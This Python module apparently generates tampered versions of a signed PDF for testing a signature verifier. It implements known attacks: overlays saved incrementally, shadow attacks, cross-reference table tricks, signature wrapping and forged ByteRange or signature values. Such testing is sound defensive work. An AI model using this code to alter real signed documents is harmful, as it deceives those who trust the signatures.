"""Attacks on a genuine signed file, as the literature describes them (pdf-insecurity.org, 2019 to 2021).

Each takes a signed PDF and gives it back showing something else, or resting on nothing.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader


def updated(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None], *, as_stream: bool = False) -> bytes:
    """The file with one more update: incremental saving, which leaves every signed byte in its place."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf))
    change(writer)
    output = BytesIO()
    writer.stream_xrefs = as_stream
    writer.write(output)
    return output.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    found = writer.root["/Pages"]["/Kids"][0]
    assert isinstance(found, generic.DictionaryObject)
    return found


def _annotate(writer: IncrementalPdfFileWriter, annotation: dict[str, generic.PdfObject]) -> None:
    page = _page(writer)
    reference = writer.add_object(generic.DictionaryObject({pdf_name(k): v for k, v in annotation.items()}))
    listed = page.get("/Annots", generic.ArrayObject())
    page[pdf_name("/Annots")] = generic.ArrayObject([*listed, reference])
    writer.update_container(page)


def _rectangle() -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(n) for n in (50, 400, 550, 800)])


def draw_over(pdf: bytes) -> bytes:
    """Incremental saving: the page gets another content."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=b"BT (faux) Tj ET"))
        writer.update_container(page)

    return updated(pdf, change)


def draw_over_in_a_cross_reference_stream(pdf: bytes) -> bytes:
    """The same, the table of objects being a stream."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        reference = _page(writer).raw_get("/Contents").reference
        writer.objects[(reference.generation, reference.idnum)] = generic.StreamObject(stream_data=b"BT (faux) Tj ET")

    return updated(pdf, change, as_stream=True)


def stamp_as_pdf_tools_do(pdf: bytes) -> bytes:
    """A stamp « Reçu en préfecture » drawn on the signed original, in an update."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        stamp = writer.add_object(generic.StreamObject(stream_data=b"q BT (Recu) Tj ET Q"))
        kept = page.raw_get("/Contents")
        before = list(kept) if isinstance(kept, generic.ArrayObject) else [kept]
        page[pdf_name("/Contents")] = generic.ArrayObject([*before, stamp])
        writer.update_container(page)

    return updated(pdf, change)


def add_page(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        pages = writer.root["/Pages"]
        fresh = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/Parent"): writer.root.raw_get("/Pages"),
                pdf_name("/MediaBox"): _rectangle(),
            }
        )
        pages["/Kids"].append(writer.add_object(fresh))
        pages[pdf_name("/Count")] = generic.NumberObject(len(pages["/Kids"]))
        writer.update_container(pages)

    return updated(pdf, change)


def replace_pages(pdf: bytes) -> bytes:
    """Shadow, replace: the catalog leads to another tree of pages."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Page"), pdf_name("/MediaBox"): _rectangle()})
        kept = writer.add_object(page)
        tree = {"/Type": pdf_name("/Pages"), "/Count": generic.NumberObject(1), "/Kids": generic.ArrayObject([kept])}
        root = writer.add_object(generic.DictionaryObject({pdf_name(k): v for k, v in tree.items()}))
        page[pdf_name("/Parent")] = root
        writer.root[pdf_name("/Pages")] = root
        writer.update_root()

    return updated(pdf, change)


def replace_font(pdf: bytes) -> bytes:
    """Shadow, replace: the letters mean something else, the content being untouched."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        fonts = _page(writer)["/Resources"]["/Font"]
        name = next(iter(fonts))
        fonts[name] = writer.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Font"),
                    pdf_name("/Subtype"): pdf_name("/Type1"),
                    pdf_name("/BaseFont"): pdf_name("/Symbol"),
                }
            )
        )
        writer.update_container(fonts)

    return updated(pdf, change)


def hide_what_covered(pdf: bytes) -> bytes:
    """Shadow, hide: an object that the signatory saw over the text vanishes from the table of objects."""
    with pikepdf.open(BytesIO(pdf)) as opened:
        number = opened.pages[0].obj.Contents.objgen[0]
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = _trailer(pdf, start)
    at = len(pdf)
    return pdf + b"xref\n%d 1\n0000000000 00001 f \n%s\nstartxref\n%d\n%%%%EOF\n" % (number, trailer, at)


def with_two_contents(frozen: bytes) -> bytes:
    """A document prepared for « hide and replace »: the page's content has a twin that no table knows yet."""
    with pikepdf.open(BytesIO(frozen)) as opened:
        number = opened.pages[0].obj.Contents.objgen[0]
    twin = b"%d 0 obj\n<< /Length 15 >>\nstream\nBT (faux) Tj ET\nendstream\nendobj\n" % number
    start = int(re.findall(rb"startxref\s+(\d+)", frozen)[-1])
    return frozen[:start] + twin + frozen[start:].replace(b"\n%d\n" % start, b"\n%d\n" % (start + len(twin)))


def hide_and_replace(pdf: bytes) -> bytes:
    """Shadow, hide and replace: the twin, already in the signed bytes, is put in place of the content."""
    with pikepdf.open(BytesIO(pdf)) as opened:
        number = opened.pages[0].obj.Contents.objgen[0]
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    twin = [found.start() for found in re.finditer(rb"\b%d 0 obj\n<< /Length 15" % number, pdf)][-1]
    at = len(pdf)
    return pdf + b"xref\n%d 1\n%010d 00000 n \n%s\nstartxref\n%d\n%%%%EOF\n" % (number, twin, _trailer(pdf, start), at)


def _trailer(pdf: bytes, previous: int) -> bytes:
    reader = PdfFileReader(BytesIO(pdf))
    root = reader.trailer.raw_get("/Root").reference
    size = int(reader.trailer["/Size"])
    return b"trailer\n<< /Size %d /Root %d %d R /Prev %d >>" % (size, root.idnum, root.generation, previous)


def hybrid_tables(pdf: bytes) -> bytes:
    """An update in two tables: old programs read one, recent ones the other, where the page is another."""
    forged = draw_over_in_a_cross_reference_stream(pdf)
    hidden = int(re.findall(rb"startxref\s+(\d+)", forged)[-1])
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    trailer = _trailer(pdf, start).replace(b" >>", b" /XRefStm %d >>" % hidden)
    at = len(forged)
    return forged + b"xref\n0 1\n0000000000 65535 f \n%s\nstartxref\n%d\n%%%%EOF\n" % (trailer, at)


def loop_of_tables(pdf: bytes) -> bytes:
    """A last table of objects whose previous one is itself."""
    at = len(pdf)
    return pdf + b"xref\n0 1\n0000000000 65535 f \n%s\nstartxref\n%d\n%%%%EOF\n" % (_trailer(pdf, at), at)


def second_end_of_file(pdf: bytes) -> bytes:
    """A second end that leads back to the first table: nothing changed, but nothing signs it."""
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    return pdf + b"99 0 obj\n(glisse)\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def comment_after(pdf: bytes) -> bytes:
    return pdf + b"% une ligne de plus\n"


def evil_annotation(pdf: bytes) -> bytes:
    """EAA: a note that covers the text."""
    return updated(
        pdf,
        lambda writer: _annotate(
            writer,
            {
                "/Type": pdf_name("/Annot"),
                "/Subtype": pdf_name("/FreeText"),
                "/Rect": _rectangle(),
                "/Contents": generic.TextStringObject("1 000 000 euros"),
                "/F": generic.NumberObject(4),
            },
        ),
    )


def empty_signature_frame(pdf: bytes) -> bytes:
    """SSA: a signature frame, never signed, whose appearance covers the text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        look = generic.StreamObject(
            {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form")},
            stream_data=b"BT (faux) Tj ET",
        )
        page = _page(writer)
        field = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): generic.TextStringObject("Couverture"),
                pdf_name("/Rect"): _rectangle(),
                pdf_name("/F"): generic.NumberObject(132),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)}),
            }
        )
        reference = writer.add_object(field)
        form = writer.root["/AcroForm"]
        form["/Fields"].append(reference)
        writer.update_container(form["/Fields"])
        page[pdf_name("/Annots")] = generic.ArrayObject([*page.get("/Annots", []), reference])
        writer.update_container(page)

    return updated(pdf, change)


def automatic_script(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[pdf_name("/OpenAction")] = generic.DictionaryObject({pdf_name("/S"): pdf_name("/JavaScript")})
        writer.update_root()

    return updated(pdf, change)


def attach_file(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        content = writer.add_object(generic.StreamObject(stream_data=b"une autre version"))
        spec = generic.DictionaryObject({pdf_name("/EF"): generic.DictionaryObject({pdf_name("/F"): content})})
        writer.root[pdf_name("/AF")] = generic.ArrayObject([writer.add_object(spec)])
        writer.update_root()

    return updated(pdf, change)


def _range(pdf: bytes) -> tuple[bytes, int, int, int]:
    numbers = [int(n) for n in PdfFileReader(BytesIO(pdf)).embedded_signatures[0].byte_range]
    written = re.search(rb"/ByteRange\s*\[[^]]*\]", pdf)
    assert written is not None
    return written[0], numbers[1], numbers[2], numbers[3]


def _with_range(pdf: bytes, numbers: str) -> bytes:
    old = _range(pdf)[0]
    new = f"/ByteRange [{numbers}]".encode()
    return pdf.replace(old, new.ljust(len(old))) if len(new) <= len(old) else pdf.replace(old, new)


def wider_hole(pdf: bytes) -> bytes:
    """SWA: more is left out than the value."""
    _, first, second, length = _range(pdf)
    return _with_range(pdf, f"0 {first} {second + 9} {length - 9}")


def moved_range(pdf: bytes) -> bytes:
    """SWA: the end of the signed bytes moves away, and what is wrapped before it holds the tables that are read.

    The digest is right: the bytes signed are all there. A second dictionary of the signature says where.
    """
    _, first, second, length = _range(pdf)
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    moved = 60_000
    found = re.search(rb"/ByteRange", pdf)
    assert found is not None
    head = max(m.start() for m in re.finditer(rb"\d+ 0 obj", pdf[: found.start()]))
    body = pdf[head : pdf.index(b"endobj", second) + 6]
    numbers = b"/ByteRange [0 %d %d %d]" % (first, second + moved, length)
    twin = re.sub(rb"/ByteRange\s*\[[^]]*\]", numbers, body)
    entries, trailer = pdf[start:].split(b"trailer", 1)
    where = {int(n): offset for n, offset in _entries(entries)}
    number = int(twin.split()[0])
    room = start - second - 1
    assert room > 0
    at = start + 5000
    where = {n: (o + moved if o >= second else o) for n, o in where.items()} | {number: at}
    table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % item for item in sorted(where.items()))
    table += b"trailer" + trailer[: trailer.index(b"startxref")]
    wrapped = b"\n".ljust(start - second, b" ") + table
    assert second + len(wrapped) < at
    wrapped = wrapped.ljust(at - second, b" ") + twin + b"\n"
    assert len(wrapped) < moved
    return pdf[:second] + wrapped.ljust(moved - 1) + b"\n" + pdf[second:]


def _entries(table: bytes) -> list[tuple[int, int]]:
    """Numbers and places of the objects of a table (ISO 32000-1 §7.5.4)."""
    found, number = [], 0
    for line in table.splitlines()[1:]:
        words = line.split()
        if len(words) == 2:
            number = int(words[0])
        elif len(words) == 3:
            if words[2] == b"n":
                found.append((number, int(words[0])))
            number += 1
    return found


def wrapped_update(pdf: bytes) -> bytes:
    """SWA: objects slipped in after the value, the signed range saying the contrary."""
    old, first, second, length = _range(pdf)
    slipped = b"\n1 0 obj\n<< /Type /Catalog >>\nendobj\n".ljust(200)
    new = b"/ByteRange [0 %d %d %d]" % (first, second + 200, length)
    return pdf[:second].replace(old, new.ljust(len(old))) + slipped + pdf[second:]


def starts_later(pdf: bytes) -> bytes:
    _, first, second, length = _range(pdf)
    return _with_range(pdf, f"9 {first - 9} {second} {length}")


#: Universal signature forgery: the value or what it covers is missing, null, or nonsense.
def no_range(pdf: bytes) -> bytes:
    return pdf.replace(b"/ByteRange", b"/ByteRanje")


def null_range(pdf: bytes) -> bytes:
    old = _range(pdf)[0]
    return pdf.replace(old, b"/ByteRange null".ljust(len(old)))


def empty_range(pdf: bytes) -> bytes:
    return _with_range(pdf, "")


def negative_range(pdf: bytes) -> bytes:
    return _with_range(pdf, "0 -1 -1 0")


def range_of_three(pdf: bytes) -> bytes:
    return _with_range(pdf, "0 1 2")


def range_past_the_end(pdf: bytes) -> bytes:
    return _with_range(pdf, "0 9 9 99999999")


def no_value(pdf: bytes) -> bytes:
    _, first, *_ = _range(pdf)
    head = pdf[:first].rindex(b"/Contents")
    return pdf[:head] + b"/Kontents" + pdf[head + 9 :]


def null_value(pdf: bytes) -> bytes:
    _, first, second, _ = _range(pdf)
    return pdf[:first] + b"null".ljust(second - first) + pdf[second:]


def zero_value(pdf: bytes) -> bytes:
    _, first, second, _ = _range(pdf)
    return pdf[:first] + b"<" + b"0" * (second - first - 2) + b">" + pdf[second:]


def empty_value(pdf: bytes) -> bytes:
    _, first, second, _ = _range(pdf)
    return pdf[:first] + b"<>".ljust(second - first) + pdf[second:]


def signature_undeclared(pdf: bytes) -> bytes:
    """The form forgets its signature: nothing to verify, nothing to refuse, unless the trace is seen."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        del writer.root["/AcroForm"]
        writer.update_root()

    return updated(pdf, change)


def unknown_kind(pdf: bytes) -> bytes:
    return pdf.replace(b"/ETSI.CAdES.detached", b"/ETSI.CAdES.attached")


def one_byte(pdf: bytes) -> bytes:
    return pdf[:7] + bytes([pdf[7] ^ 1]) + pdf[8:]


def rewritten(pdf: bytes) -> bytes:
    output = BytesIO()
    with pikepdf.open(BytesIO(pdf)) as opened:
        opened.save(output)
    return output.getvalue()


def in_object_streams(pdf: bytes) -> bytes:
    """Rewritten with its objects packed, the signature's value and range kept as they were."""
    output = BytesIO()
    with pikepdf.open(BytesIO(pdf)) as opened:
        opened.save(output, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return output.getvalue()


INCREMENTAL = [
    *(draw_over, draw_over_in_a_cross_reference_stream, stamp_as_pdf_tools_do, add_page, evil_annotation),
    *(empty_signature_frame, automatic_script, attach_file),
]
SHADOWS = [replace_pages, replace_font, hide_what_covered]
TABLES = [hybrid_tables, loop_of_tables, second_end_of_file, comment_after]
WRAPPING = [wider_hole, moved_range, wrapped_update, starts_later]
FORGERIES = [
    *(no_range, null_range, empty_range, negative_range, range_of_three, range_past_the_end),
    *(no_value, null_value, zero_value, empty_value, signature_undeclared, unknown_kind),
]
REWRITINGS = [one_byte, rewritten, in_object_streams]
EVERY = [*INCREMENTAL, *SHADOWS, *TABLES, *WRAPPING, *FORGERIES, *REWRITINGS]
